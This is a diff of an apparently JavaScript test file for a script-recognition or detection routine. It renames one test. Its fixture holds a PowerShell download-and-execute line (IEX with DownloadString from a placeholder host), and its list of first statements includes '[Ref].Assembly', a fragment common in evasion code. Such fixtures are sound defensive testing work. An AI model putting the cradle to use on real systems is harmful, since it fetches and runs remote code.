@@ -143,7 +143,7 @@ suite('an encoded script', () => {
   })
 })
 
-test('a script without a name is told by its first statement', () => {
+test('a script without a name is recognised by its first statement', () => {
   const run = `$b = [Convert]::FromBase64String($a)\nIEX ($w.DownloadString('http://example.com/a'))\n`
   const texts = ['$a = 1', '[Ref].Assembly', 'Write-Output 1', 'param($x)']
   for (const first of texts)
